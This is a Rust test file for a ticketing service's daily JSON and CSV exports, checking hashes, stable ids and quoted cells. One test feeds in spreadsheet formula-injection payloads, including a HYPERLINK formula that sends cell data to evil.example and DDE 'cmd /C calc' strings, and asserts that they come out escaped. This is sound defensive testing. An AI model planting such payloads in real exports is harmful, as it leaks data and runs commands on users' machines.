//! Exports: whole under their name, or not there.

use object_store::path::Path;
use serde_json::{Value, json};
use sha2::{Digest, Sha256};
use weirgate_msp::{ComputeKpi, ExportFormat, GenerateExport, IngestTickets, IngestTimeEntries};
use weirgate_test_support::tenant;

use crate::support::{TestApp, new_app};

async fn app_with_a_day() -> TestApp {
    let app = new_app().await;
    tenant(&app.db.pool, "acme", "UTC").await;
    app.write(
        "acme/tickets.jsonl",
        concat!(
            r#"{"cw_ticket_id":"T-1","status":"Closed","priority":"High","summary":"=cmd()","created_at_remote":"2026-01-20T09:00:00Z","updated_at_remote":"2026-01-20T10:00:00Z"}"#,
            "\n",
            r#"{"cw_ticket_id":"T-2","status":"New","priority":"Low","summary":"other day","created_at_remote":"2026-01-21T09:00:00Z","updated_at_remote":"2026-01-21T10:00:00Z"}"#,
        ),
    );
    app.write(
        "acme/time_entries.jsonl",
        r#"{"cw_time_entry_id":"E-1","cw_ticket_id":"T-1","billable":true,"minutes":45,"notes":"line\n\"two\"","date_worked":"2026-01-20"}"#,
    );
    app.run(&IngestTickets { tenant: "acme".into() }).await.unwrap();
    app.run(&IngestTimeEntries { tenant: "acme".into() }).await.unwrap();
    app.run(&ComputeKpi { tenant: "acme".into(), date: "2026-01-20".parse().unwrap() }).await.unwrap();
    app
}

/// The day of `acme` as a file.
pub(super) async fn exported(app: &TestApp, format: ExportFormat) -> (weirgate_msp::Export, Vec<u8>) {
    let job = GenerateExport { tenant: "acme".into(), date: "2026-01-20".parse().unwrap(), format };
    let export = app.run(&job).await.unwrap();
    let path: String = sqlx::query_scalar("select object_path from msp.exports where id = $1")
        .bind(export.export_id)
        .fetch_one(&app.db.pool)
        .await
        .unwrap();
    let path = Path::from(path);
    let bytes = app
        .app
        .exports
        .get_opts(&path, object_store::GetOptions::default())
        .await
        .unwrap()
        .bytes()
        .await
        .unwrap();
    (export, bytes.to_vec())
}

#[tokio::test]
async fn json_holds_the_kpis_the_tickets_and_the_time_of_the_day() {
    let app = app_with_a_day().await;
    let (export, bytes) = exported(&app, ExportFormat::Json).await;
    assert_eq!(export.bytes, i64::try_from(bytes.len()).unwrap());
    assert_eq!(export.sha256, hex::encode(Sha256::digest(&bytes)));
    let content: Value = serde_json::from_slice(&bytes).unwrap();
    assert_eq!((content["tenant"].as_str(), content["date"].as_str()), (Some("acme"), Some("2026-01-20")));
    assert_eq!(content["kpis"]["total_minutes"], 45);
    assert_eq!(content["tickets"].as_array().unwrap().len(), 1);
    assert_eq!(content["tickets"][0]["cw_ticket_id"], "T-1");
    assert_eq!(content["time_entries"][0]["notes"], "line\n\"two\"");
}

#[tokio::test]
async fn csv_is_one_table_with_harmless_cells() {
    let app = app_with_a_day().await;
    let (_, bytes) = exported(&app, ExportFormat::Csv).await;
    for line in std::str::from_utf8(&bytes).unwrap().split_inclusive("\"\n") {
        assert!(line.starts_with('"') && line.ends_with("\"\n"), "each cell is quoted: {line:?}");
    }
    let mut reader = csv::Reader::from_reader(bytes.as_slice());
    let headers = reader.headers().unwrap().clone();
    let column = |name: &str| headers.iter().position(|it| it == name).unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let of = |record: &str| rows.iter().filter(|row| &row[0] == record).collect::<Vec<_>>();
    assert_eq!((of("kpi").len(), of("ticket").len(), of("time_entry").len()), (12, 1, 1));
    assert_eq!(&of("ticket")[0][column("summary")], "'=cmd()");
    assert_eq!(&of("time_entry")[0][column("minutes")], "45");
}

#[tokio::test]
async fn writing_a_day_again_keeps_its_id() {
    let app = app_with_a_day().await;
    let (first, _) = exported(&app, ExportFormat::Json).await;
    let (second, _) = exported(&app, ExportFormat::Json).await;
    assert_eq!(first, second);
    let (other, _) = exported(&app, ExportFormat::Csv).await;
    assert_ne!(first.export_id, other.export_id);
}

#[tokio::test]
async fn no_field_of_a_ticket_is_a_formula() {
    let app = new_app().await;
    tenant(&app.db.pool, "acme", "UTC").await;
    let evil = [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"ok\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "\",=1+1",
        " =1+1",
        "=1+1\n=2+2",
    ];
    let fields = ["board", "summary", "description", "company", "owner", "sla_status"];
    let ticket = |(number, text): (usize, &&str)| {
        let mut ticket = json!({
            "cw_ticket_id": format!("-{number}"), "status": "New", "priority": "Low",
            "created_at_remote": "2026-01-20T09:00:00Z", "updated_at_remote": "2026-01-20T10:00:00Z",
            "estimated_hours": 1.5,
        });
        for field in fields {
            ticket[field] = (**text).into();
        }
        ticket.to_string()
    };
    app.write("acme/tickets.jsonl", evil.iter().enumerate().map(ticket).collect::<Vec<_>>().join("\n"));
    let ingested = app.run(&IngestTickets { tenant: "acme".into() }).await.unwrap();
    assert_eq!((ingested.accepted, ingested.rejected), (evil.len() as u64, 0));
    let (_, bytes) = exported(&app, ExportFormat::Csv).await;
    let mut reader = csv::Reader::from_reader(bytes.as_slice());
    let headers = reader.headers().unwrap().clone();
    let column = |name: &str| headers.iter().position(|it| it == name).unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), evil.len());
    for row in &rows {
        assert_eq!(row.len(), headers.len());
        let number: usize = row[column("id")].trim_start_matches('-').parse().unwrap();
        for field in fields {
            let cell = &row[column(field)];
            // One of them begins with a quotation mark, which makes it no formula.
            // Each line of a text may begin a cell.
            let safe = format!("'{}", evil[number].replace("\n=", "\n'=").replace("\r=", "\r'="));
            assert!(cell == safe || evil[number] == "\",=1+1", "{cell:?}");
        }
        assert_eq!(&row[column("created_at_remote")], "2026-01-20T09:00:00Z");
        assert_eq!(&row[column("estimated_hours")], "1.5");
    }
}
